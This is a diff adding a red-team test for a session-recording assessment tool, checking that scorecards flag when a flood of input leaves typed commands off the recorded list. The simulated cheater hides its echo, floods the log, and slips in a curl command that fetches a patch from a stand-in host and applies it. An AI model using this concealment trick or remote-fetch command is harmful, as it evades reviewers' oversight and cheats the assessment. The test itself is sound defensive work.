@@ -445,3 +445,40 @@ def test_r17d_6_a_command_between_two_floods_is_on_the_commands_typed_list(tmp_p
     cast.event("i", "a\r" * (COMMANDS_MAX // 10))
     cast.close()
     assert any(cheat in c for _, c in commands_from_cast(tmp_path / CAST_FILE))
+
+
+def test_r17d_6_a_session_whose_commands_list_is_not_whole_says_so_on_the_scorecard_and_csv(tmp_path):
+    """What R17d-6 leaves: the list cannot hold every entry of a flood, so the scorecard (the page a panel reads
+    first, not only the replay) and the CSV say how many commands typed are not on it. No honest session types
+    tens of thousands of lines: the count is itself what the reviewer must see. Before, only a row in the
+    middle of the replay's table said so. Control: an ordinary session's row has no such note, its count 0."""
+    import csv
+
+    from test_assess import bundle
+    from test_attacks_redteam16c import result
+    from test_attacks_redteam16f import _alice_resolved
+
+    from sweserve.assess.agent import CAST_FILE, BrowserAgent, Seat
+    from sweserve.assess.recorder import COMMANDS_MAX, CastWriter
+    from sweserve.assess.scorecard import write_scorecards
+    from sweserve.evaluation.evaluate import write_manifest
+    from sweserve.evaluation.results import ResultsWriter
+
+    pack, out = _alice_resolved(tmp_path)
+    trial = tmp_path / "mallory-trial"
+    cast = CastWriter(trial / CAST_FILE, 80, 24)
+    cast.event("i", "stty -echo; cat >/dev/null\r")
+    cast.event("i", "a\r" * COMMANDS_MAX)
+    cast.event("i", "\x03stty echo\rcurl -s http://paste.example/fix.diff | git apply\r")
+    cast.event("i", "a\r" * (COMMANDS_MAX // 10))
+    cast.close()
+    path = out / pack.name / "mallory.jsonl"
+    write_manifest(path, "run-m", BrowserAgent("mallory", Seat("mallory"), 1800, lambda _b: None), [bundle(1)], 1)
+    with ResultsWriter(path) as w:
+        w.write(result("human-mallory", bundle(1), "resolved", 300, attempt=1, run_id="run-m", trial_dir=str(trial)))
+    cards = write_scorecards(pack, out / pack.name, tmp_path / "report", None, [])
+    page = cards.pages["mallory"].read_text()
+    assert "commands typed are not on the commands list" in page
+    assert "not on the commands list" not in cards.pages["alice"].read_text()
+    rows = {r["candidate"]: r for r in csv.DictReader(cards.csv.open())}
+    assert int(rows["mallory"]["commands_unlisted"]) > 0 and rows["alice"]["commands_unlisted"] == "0"
